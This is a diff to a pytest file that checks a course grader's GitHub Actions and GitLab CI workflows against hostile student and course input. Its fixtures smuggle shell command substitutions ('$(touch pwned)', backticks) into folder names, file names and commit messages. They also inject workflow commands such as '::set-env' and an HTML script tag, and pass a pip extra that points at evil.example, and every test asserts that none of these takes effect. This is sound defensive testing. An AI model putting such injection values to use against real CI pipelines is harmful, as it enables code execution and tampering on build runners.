@@ -5,15 +5,22 @@ Replaced are the steps of others (checkout: a folder is there already; setup-pyt
 the path in its place. A line is run as the runner runs it, by ``bash --noprofile --norc -eo pipefail``.
 """
 
+import contextlib
 import os
 import re
+import shutil
 import subprocess
 import sys
 from pathlib import Path
 from typing import NamedTuple
+from xml.etree import ElementTree
 
 import pytest
 import yaml
+from click.testing import CliRunner
+
+from grader.cli.app import cli
+from tests.reports.test_github import obeyed
 
 ROOT = Path(__file__).parents[2]
 STUDENT, COURSE = ROOT / "docs/ci/student.yml", ROOT / "docs/ci/course.yml"
@@ -21,6 +28,7 @@ GITLAB, ACTION = ROOT / "docs/ci/gitlab.yml", ROOT / "action.yml"
 GITHUB = (STUDENT, COURSE, ACTION)
 EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}")
 PIP = 'if [ "$1 $2 $3" = "-m pip install" ]; then printf "%s\\n" "$@" >> "$INSTALLED"; else exec {python} "$@"; fi\n'
+SECRET = "5e" * 32
 HOSTILE = "x$(touch pwned)`touch pwned`\n::error::pwned"
 
 
@@ -138,3 +146,197 @@ def test_pages_and_commands_know_the_files():
     for page in ("docs/ci.en.md", "docs/ci.ja.md"):
         text = (ROOT / page).read_text("utf-8")
         assert all(f"(ci/{file.name})" in text for file in (STUDENT, COURSE, GITLAB))
+
+
+# -------------------------------------------------------------------------------------------------- a student's push
+HOSTILE_FOLDER = "warm up;$(touch pwned)'`touch pwned`"
+WRONG = """
+import numpy as np
+
+print("::error::printed")
+print("##[add-mask]3")
+
+
+def standardize(x):
+    raise ValueError("x\\n::set-env name=PATH::/tmp\\n</pre><script>alert(1)</script>")
+"""
+RIGHT = "def standardize(x):\n    spread = x.std(axis=0)\n    return (x - x.mean(axis=0)) / (spread + (spread == 0))\n"
+
+
+@pytest.fixture(scope="module")
+def course(tmp_path_factory):
+    """A new course, with a roster of its own, and its kits in the folder ``kits``."""
+    place = tmp_path_factory.mktemp("courses") / "course"
+    run = CliRunner(env={"GRADER_LANG": "en"})
+    assert run.invoke(cli, ["init", str(place), "--lang", "en"]).exit_code == 0
+    (place / "roster.csv").write_text("id,name,kana,email\ns001,山田 太郎,ヤマダ タロウ,taro@u.example\n", "utf-8")
+    with contextlib.chdir(place):
+        released = run.invoke(cli, ["release", "--all", "-o", "kits"], env={"GRADER_SECRET": SECRET})
+    assert released.exit_code == 0, released.output
+    return place
+
+
+@pytest.fixture
+def repository(course, tmp_path):
+    """A student's repository: one kit in a folder with an unkind name, with a wrong answer in it."""
+    checkout = tmp_path / "repository"
+    shutil.copytree(course / "kits/warm_up", checkout / HOSTILE_FOLDER)
+    (checkout / HOSTILE_FOLDER / "warm_up.py").write_text(WRONG, "utf-8")
+    return checkout
+
+
+@pytest.mark.slow
+def test_a_students_push_is_annotated_and_a_right_answer_is_green(runner, repository):
+    wrong = runner.run(STUDENT, repository, {})
+
+    assert wrong.code == 1, wrong.log
+    [(level, properties, words)] = obeyed(wrong.log)
+    assert (level, properties["file"], properties["line"]) == ("error", f"{HOSTILE_FOLDER}/warm_up.py", "9")
+    assert "ValueError" in words
+    assert "<script" not in wrong.summary
+    assert wrong.summary.startswith("<h3><code>warm_up</code></h3>")
+    assert wrong.installed[-1].startswith(f"./{HOSTILE_FOLDER}/shinso_grader-")
+
+    (repository / HOSTILE_FOLDER / "warm_up.py").write_text(RIGHT, "utf-8")
+    right = runner.run(STUDENT, repository, {})
+
+    assert (right.code, obeyed(right.log)) == (0, [])
+    assert not list(repository.rglob("pwned"))
+
+
+@pytest.mark.slow
+def test_the_action_takes_what_a_workflow_gives_it_as_words(runner, repository):
+    inputs = {"path": HOSTILE_FOLDER, "extra": "torch,notebook", "command": "check --hint 2", "lang": "en"}
+    context = {f"inputs.{name}": value for name, value in inputs.items()} | {"github.action_path": "/program"}
+
+    done = runner.run(ACTION, repository, context)
+
+    assert done.code == 1, done.log
+    assert [properties["line"] for _, properties, _ in obeyed(done.log)] == ["9"]
+    assert done.installed[-1].endswith(".whl[torch,notebook]")
+    assert not list(repository.rglob("pwned"))
+
+
+def test_the_action_installs_the_program_where_there_is_no_wheel_and_no_extra_that_is_none(runner, tmp_path):
+    context = {"inputs.path": ".", "inputs.extra": "", "inputs.command": "--version", "inputs.lang": ""}
+    context["github.action_path"] = "/program"
+
+    done = runner.run(ACTION, tmp_path, context)
+    refused = runner.run(ACTION, tmp_path, context | {"inputs.extra": "torch] @ https://evil.example/x.whl"})
+
+    assert done.installed[-1] == "/program"
+    assert refused.code == 2
+    assert refused.installed == done.installed
+
+
+@pytest.mark.slow
+def test_on_gitlab_the_report_is_a_file(runner, repository):
+    job = read(GITLAB)["check"]
+    environment = runner.environment | {name: v for name, v in job["variables"].items() if "$" not in v}
+
+    done = subprocess.run(
+        ["bash", "-eo", "pipefail", "-c", "\n".join(job["script"])], cwd=repository, env=environment, check=False
+    )
+
+    assert done.returncode == 1
+    assert ElementTree.parse(repository / job["artifacts"]["reports"]["junit"]).findall("testsuite/testcase")
+    assert not list(repository.rglob("pwned"))
+
+
+# ---------------------------------------------------------------------------------------------- a course's repository
+def commit(folder, message):
+    identity = ["-c", "user.name=x", "-c", "user.email=x@example.invalid"]
+    for words in (["add", "--all"], [*identity, "commit", "-q", "-m", message]):
+        subprocess.run(["git", *words], cwd=folder, check=True)
+    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=folder, capture_output=True, text=True, check=True)
+    return head.stdout.strip()
+
+
+@pytest.fixture
+def course_repository(course, tmp_path):
+    checkout = tmp_path / "course"
+    shutil.copytree(course, checkout)
+    subprocess.run(["git", "init", "-q", "."], cwd=checkout, check=True)
+    return checkout
+
+
+def context_of(base):
+    return {"github.event.pull_request.base.sha || github.event.before": base, "secrets.GRADER_SECRET": SECRET}
+
+
+@pytest.mark.slow
+def test_a_change_that_no_assignment_notices_is_not_audited_but_released_in_thought(runner, course_repository):
+    base = commit(course_repository, "begin")
+    for name in ("kits/notes.txt", "assignments/$(touch pwned)\n::error::x/y.md"):
+        (course_repository / name).parent.mkdir(exist_ok=True)
+        (course_repository / name).write_text("x", "utf-8")
+    commit(course_repository, HOSTILE)
+
+    done = runner.run(COURSE, course_repository, context_of(base))
+
+    assert done.code == 0, done.log
+    assert "mutants" not in done.log
+    assert "warm_up: " in done.log  # of the release
+    assert obeyed(done.log) == []
+    assert done.installed[-1].endswith("[course,notebook,documents,playground]")
+    assert not list(course_repository.rglob("pwned"))
+
+
+@pytest.mark.slow
+def test_what_has_changed_is_audited_and_annotated_and_a_release_is_not_thought_of(runner, course_repository):
+    before = commit(course_repository, "begin")
+    hidden = course_repository / "assignments/warm_up/hidden/test_hidden.py"
+    hidden.write_text(hidden.read_text("utf-8").replace("assert_close(student", "assert_close(reference"), "utf-8")
+    commit(course_repository, "a check that checks nothing")
+
+    done = runner.run(COURSE, course_repository, context_of(before))
+
+    assert done.code == 1, done.log
+    found = {(properties["file"], properties.get("line")) for _, properties, _ in obeyed(done.log)}
+    assert ("reference/warm_up.py", "10") in found
+    assert "grader audit: ✗" in done.summary
+    assert "released" not in done.log
+
+
+ALL = "audit --mutants sample --seeds 5 --format github --"
+CHANGES = {  # the files that a push changes: what is called; the grader itself is replaced by one that only says it
+    "an assignment": (["assignments/one/hidden/test_x.py"], f"{ALL} one"),
+    "two of them": (["assignments/two/x.md", "assignments/one/x.md", "assignments/one/y.md"], f"{ALL} one two"),
+    "a name with a space": (["assignments/th ree/wrong/x.py"], f"{ALL} th ree"),
+    "one that is no assignment": (["assignments/none/x.md"], ""),
+    "one that is gone": (["assignments/four/manifest.toml"], ""),
+    "the folder of assignments": (["assignments/pytest.ini"], ALL),
+    "kits": (["kits/one/one.kit"], ""),
+    "a reference": (["reference/x.py", "assignments/one/x.md"], ALL),
+    "the course": (["course.toml"], ALL),
+    "nothing that the names say": (["assignments/$(touch pwned)/`touch pwned`\n::error::x", "kits/x"], ""),
+}
+
+
+def test_what_is_audited_follows_from_what_has_changed(runner, tmp_path):
+    (runner.folder / "tools/grader").unlink()
+    (runner.folder / "tools/grader").write_text('#!/bin/bash\necho "$@"\n', "utf-8")
+    (runner.folder / "tools/grader").chmod(0o755)
+    checkout = tmp_path / "course"
+    for name in ("one", "two", "th ree", "four"):
+        (checkout / "assignments" / name).mkdir(parents=True)
+        (checkout / "assignments" / name / "manifest.toml").write_text("", "utf-8")
+    subprocess.run(["git", "init", "-q", "."], cwd=checkout, check=True)
+    base = commit(checkout, "begin")
+    release = "release --all --check\n"
+    called = {}
+    for title, (files, _) in CHANGES.items():
+        subprocess.run(["git", "checkout", "-q", "--detach", base], cwd=checkout, check=True)
+        for file in map(checkout.joinpath, files):
+            file.parent.mkdir(parents=True, exist_ok=True)
+            if file.name == "manifest.toml":
+                file.unlink()
+            else:
+                file.write_text("x", "utf-8")
+        commit(checkout, HOSTILE)
+        called[title] = runner.run(COURSE, checkout, context_of(base)).log.partition(release[:-1])[0].strip()
+
+    assert called == {title: expected for title, (_, expected) in CHANGES.items()}
+    for unknown in (HOSTILE, "0" * 40, "", "--output=pwned"):
+        assert runner.run(COURSE, checkout, context_of(unknown)).log.startswith(f"{ALL}\n")
+    assert not list(checkout.rglob("pwned"))
